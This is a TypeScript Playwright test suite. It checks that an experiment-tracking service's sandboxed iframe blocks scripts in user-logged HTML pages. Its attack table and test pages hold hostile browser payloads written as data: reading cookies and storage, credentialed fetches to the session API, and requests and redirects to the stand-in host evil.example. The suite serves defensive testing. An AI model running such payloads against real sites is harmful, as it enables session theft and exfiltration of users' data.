import assert from "node:assert/strict";
import { test } from "node:test";
import type { Page, Request } from "playwright-core";
import { logged, logRun } from "./logged-run.ts";
import { pagesSuite } from "./pages-suite.ts";

/** Attacks that a logged page may try; each result is written into its body. */
const attacks: Record<string, string> = {
  "its cookies": "document.cookie",
  "stored values": "localStorage.length",
  "values of the session": "sessionStorage.length",
  "a database": "indexedDB.open('x') && 'opened'",
  "the page around it": "parent.document.title",
  "the address of the page around it": "parent.location.href",
  "its own frame element": "frameElement.id",
  "the API": "await (await fetch('/api/v1/sessions', { credentials: 'include' })).text()",
  "the API by an older way":
    "await new Promise((done, fail) => { const r = new XMLHttpRequest(); r.open('GET', '/api/v1/sessions'); r.onload = () => done(r.responseText); r.onerror = () => fail(new Error('refused')); r.send(); })",
  "another host": "await (await fetch('https://evil.example/?' + 1, { mode: 'no-cors' })).type",
  "a picture of another host":
    "await new Promise((done, fail) => { const i = new Image(); i.onload = () => done('shown'); i.onerror = () => fail(new Error('refused')); i.src = 'https://evil.example/x.png'; })",
  "a script of ours":
    "await new Promise((done, fail) => { const s = document.createElement('script'); s.onload = () => done('run'); s.onerror = () => fail(new Error('refused')); s.src = '/assets/x.js'; document.head.append(s); })",
  "a frame in it":
    "await new Promise((done, fail) => { const f = document.createElement('iframe'); f.src = '/experiments'; f.onload = () => { try { done(f.contentDocument.title) } catch (e) { fail(e) } }; document.body.append(f); })",
  "the address bar": "(top.location.href = 'https://evil.example/', 'moved')",
  "a window":
    "String(window.open('https://evil.example/') ?? (() => { throw new Error('refused') })())",
  "a worker": "String(new Worker('/assets/x.js'))",
};

/** A page that tries them one after the other. */
function pageTrying(names: readonly string[]): string {
  const tries = names.map(
    (name) => `await attempt(${JSON.stringify(name)}, async () => (${attacks[name]}));`,
  );
  return `<!doctype html><body><ul id="results"></ul><script>
parent.postMessage({ hacked: true }, "*");
async function attempt(name, act) {
  const line = document.createElement("li");
  let told;
  try { told = "GOT " + String(await act()).slice(0, 80); } catch (error) { told = "refused"; }
  line.textContent = name + ": " + told;
  results.append(line);
}
(async () => {
  ${tries.join("\n")}
  const end = document.createElement("p");
  end.textContent = "tried";
  document.body.append(end);
})();
</script></body>`;
}

pagesSuite("a page that a run has logged", (pages) => {
  const { service } = pages;

  async function opened(slug: string, html: string): Promise<{ page: Page; sent: Sent[] }> {
    const of = { slug, files: { "page.html": html } };
    const notes = [logged(of, "html", "page", 1, "page.html")];
    const { experimentId } = await logRun(pages.client, service.baseUrl, slug, {
      ...of,
      notes,
      last: 10,
    });
    const { page } = await pages.signedIn();
    const sent: Sent[] = [];
    page.on("request", (request) => {
      if (request.url().startsWith("data:") || request.frame() === page.mainFrame()) return;
      sent.push({ request, url: request.url() });
    });
    // Requests that the policy refuses are told, too, and are not sent.
    page.on("requestfailed", (request) => {
      const at = sent.findIndex((one) => one.request === request);
      if (at >= 0 && /csp/i.test(request.failure()?.errorText ?? "")) sent.splice(at, 1);
    });
    await page.goto(`${service.baseUrl}/experiments/${experimentId}?tab=charts`);
    await page.locator(".media-panel").scrollIntoViewIfNeeded();
    await page.locator("iframe").waitFor();
    return { page, sent };
  }

  test("runs no script until somebody wants it, and then reaches nothing", async () => {
    const { page, sent } = await opened("html/hostile", pageTrying(Object.keys(attacks)));
    const still = await page.locator("iframe").getAttribute("sandbox");
    assert.equal(still, "");
    assert.equal(await page.frameLocator("iframe").locator("li").count(), 0);
    await page.getByRole("button", { name: "run scripts" }).click();
    await page.frameLocator("iframe").getByText("tried").waitFor();
    assert.equal(await page.locator("iframe").getAttribute("sandbox"), "allow-scripts");
    const results = await page.frameLocator("iframe").locator("li").allInnerTexts();
    assert.deepEqual(
      results,
      Object.keys(attacks).map((name) => `${name}: refused`),
    );
    // The frame itself comes with the session; nothing that it asks for does, or is even sent.
    const others = sent.filter(({ url }) => !url.includes("/api/views/v1/file-frame?"));
    assert.deepEqual(
      others.map(({ url }) => url),
      [],
    );
    // Nobody listens to what it tells the page around it, which is as it was.
    assert.match(page.url(), /\/experiments\//);
    assert.equal(await page.evaluate("'hacked' in window"), false);
    assert.equal(page.context().pages().length, 1);
  });

  test("cannot take its frame to another host, nor to the API with the session", async () => {
    const away = `<script>location.href = "https://evil.example/?" + document.title</script>`;
    const elsewhere = await opened("html/away", away);
    const refused = elsewhere.page.waitForEvent("console", {
      predicate: (message) => message.text().includes("frame-src"),
    });
    await elsewhere.page.getByRole("button", { name: "run scripts" }).click();
    await refused;
    assert.deepEqual(
      elsewhere.sent.filter(({ url }) => new URL(url).host === "evil.example"),
      [],
    );
    // To the service itself it may go, but as nobody.
    const api = await opened("html/api", `<script>location.href = "/api/v1/sessions"</script>`);
    const main = api.page.mainFrame();
    const reply = api.page.waitForResponse(
      (one) => one.frame() !== main && new URL(one.url()).pathname === "/api/v1/sessions",
    );
    await api.page.getByRole("button", { name: "run scripts" }).click();
    assert.equal((await reply).status(), 401);
    assert.equal((await (await reply).request().allHeaders())["cookie"], undefined);
  });

  test("is no page of ours where its address is opened by itself", async () => {
    // Alone it is its own parent, and may leave its own address: that is all.
    const own = ["the page around it", "the address of the page around it"];
    const others = Object.keys(attacks).filter((name) => name !== "the address bar");
    const { page } = await opened("html/alone", pageTrying(others));
    const address = await page.locator("iframe").getAttribute("src");
    await page.goto(`${service.baseUrl}${address}&scripts=1`);
    await page.getByText("tried").waitFor();
    assert.deepEqual(
      await page.locator("li", { hasNotText: "GOT" }).allInnerTexts(),
      others.filter((name) => !own.includes(name)).map((name) => `${name}: refused`),
    );
  });
});

interface Sent {
  request: Request;
  url: string;
}
